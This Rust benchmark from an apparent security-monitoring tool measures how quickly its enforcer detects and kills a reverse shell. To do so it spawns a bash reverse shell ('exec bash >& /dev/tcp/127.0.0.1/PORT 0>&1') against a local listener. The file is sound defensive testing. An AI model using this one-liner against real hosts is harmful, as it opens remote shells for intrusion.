//! How long a reverse shell lives under enforcement: kernel event → alert → signal → exit.
//!
//! `cargo build --release && cargo bench -p sentinel-tests --bench kill_latency [-- RUNS]` as root. Prints p50 and p99 of the
//! time from the shell's exec (the kernel's own timestamp) to the moment this process learns of its
//! end, beside the floor of the same run: as many wake-ups (five) between two threads over the same type of
//! socket, and then SIGKILL for such a shell that nobody watches, until this process learns of its end.

use std::{
    fs,
    os::fd::AsFd,
    process::{Child, Command, Stdio},
    thread::sleep,
    time::Duration,
};

use nix::{
    poll::{PollFd, PollFlags, PollTimeout, poll},
    sys::socket::{AddressFamily, MsgFlags, SockFlag, SockType, recv, send, socketpair},
};
use sentinel_tests::{bed::Bed, peer::Peer, rig::boot_now, sentinel::Sentinel};
use std::os::fd::AsRawFd;

/// The enforcer's budget for a minute and a rule: after so many a new run is started.
const KILLS_A_RUN: usize = 5;
/// Ring → loader → analyzer → enforcer → loader → enforcer.
const WAKE_UPS: usize = 5;

fn main() {
    let runs = std::env::args().find_map(|argument| argument.parse().ok()).unwrap_or(300);
    let mut latencies = Vec::new();
    let (mut wake_ups, mut ended) = (Vec::new(), Vec::new());
    while latencies.len() < runs {
        let Some(bed) = Bed::new() else { return };
        let sentinel = Sentinel::start(&bed, &["--grimoire-enforce"]);
        let peer = Peer::listen("127.0.0.1");
        let mut ends = Vec::new();
        for _ in 0..KILLS_A_RUN.min(runs - latencies.len()) {
            let child = shell(bed.command("bash"), &peer);
            ends.push((child.id(), end_of(child)));
            wake_ups.push(waking());
            ended.push(killing(&peer));
        }
        let alerts = sentinel.stop().alerts;
        for (pid, end) in ends {
            let alert = alerts.iter().find(|alert| alert["pid"] == pid).expect("its alert");
            assert_eq!(alert["action"], "terminated");
            let step = alert["steps"].as_array().and_then(|steps| steps.last()).expect("steps");
            let exec = step["timestamp_boot"].as_u64().expect("a time");
            latencies.push(end.saturating_sub(exec));
        }
    }
    let (p50, p99) = percentiles(&mut latencies);
    let mut floors: Vec<u64> =
        wake_ups.iter().zip(&ended).map(|(one, other)| one + other).collect();
    let (wake50, wake99) = percentiles(&mut wake_ups);
    let (end50, end99) = percentiles(&mut ended);
    let (floor50, floor99) = percentiles(&mut floors);
    println!("{} runs                    p50 µs   p99 µs", latencies.len());
    println!("exec → exit            {:>10} {:>8}", p50 / 1000, p99 / 1000);
    println!("{WAKE_UPS} bare wake-ups        {:>10} {:>8}", wake50 / 1000, wake99 / 1000);
    println!("SIGKILL → exit         {:>10} {:>8}", end50 / 1000, end99 / 1000);
    println!("ratio                  {:>10.2} {:>8.2}", ratio(p50, floor50), ratio(p99, floor99));
}

fn shell(mut command: Command, peer: &Peer) -> Child {
    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
    command.args(["-c", &code]).stdin(Stdio::null()).stderr(Stdio::null()).spawn().expect("bash")
}

/// When `child` ended; CLOCK_BOOTTIME, ns.
fn end_of(mut child: Child) -> u64 {
    let pid = rustix::process::Pid::from_raw(i32::try_from(child.id()).expect("a pid"));
    let flags = rustix::process::PidfdFlags::empty();
    let pidfd = rustix::process::pidfd_open(pid.expect("a pid"), flags).expect("a process");
    let mut fds = [PollFd::new(pidfd.as_fd(), PollFlags::POLLIN)];
    assert_eq!(poll(&mut fds, PollTimeout::from(10_000_u16)), Ok(1), "the shell is not ended");
    let end = boot_now();
    child.wait().expect("its status");
    end
}

/// How long it takes from the signal until this process learns of the end; ns.
fn killing(peer: &Peer) -> u64 {
    let mut child = shell(Command::new("bash"), peer);
    // Until it waits for its input: it has done all that a shell does first.
    let is_asleep = || {
        let stat = fs::read_to_string(format!("/proc/{}/stat", child.id())).unwrap_or_default();
        stat.rsplit(") ").next().is_some_and(|rest| rest.starts_with('S'))
    };
    let mut times = 0;
    while times < 10 {
        times = if is_asleep() { times + 1 } else { 0 };
        sleep(Duration::from_millis(1));
    }
    let begun = boot_now();
    child.kill().expect("its end");
    end_of(child) - begun
}

/// The time of as many wake-ups over sockets; ns.
fn waking() -> u64 {
    let flags = SockFlag::SOCK_CLOEXEC;
    let (ours, theirs) =
        socketpair(AddressFamily::Unix, SockType::SeqPacket, None, flags).expect("sockets");
    let echo = std::thread::spawn(move || {
        let mut byte = [0];
        while recv(theirs.as_raw_fd(), &mut byte, MsgFlags::empty()) == Ok(1) {
            send(theirs.as_raw_fd(), &byte, MsgFlags::empty()).expect("a socket");
        }
    });
    let mut byte = [0];
    let mut round = || {
        send(ours.as_raw_fd(), &byte, MsgFlags::empty()).expect("a socket");
        recv(ours.as_raw_fd(), &mut byte, MsgFlags::empty()).expect("a socket");
    };
    round();
    let begun = boot_now();
    for _ in 0..WAKE_UPS.div_ceil(2) {
        round();
    }
    let wake_ups = WAKE_UPS.div_ceil(2) * 2;
    let time = (boot_now() - begun) * WAKE_UPS as u64 / wake_ups as u64;
    drop(ours);
    echo.join().expect("the echo");
    time
}

fn percentiles(values: &mut [u64]) -> (u64, u64) {
    values.sort_unstable();
    let at = |percent: usize| values[(values.len() - 1) * percent / 100];
    (at(50), at(99))
}

#[expect(clippy::cast_precision_loss, reason = "two digits are shown")]
fn ratio(value: u64, floor: u64) -> f64 {
    value as f64 / floor.max(1) as f64
}
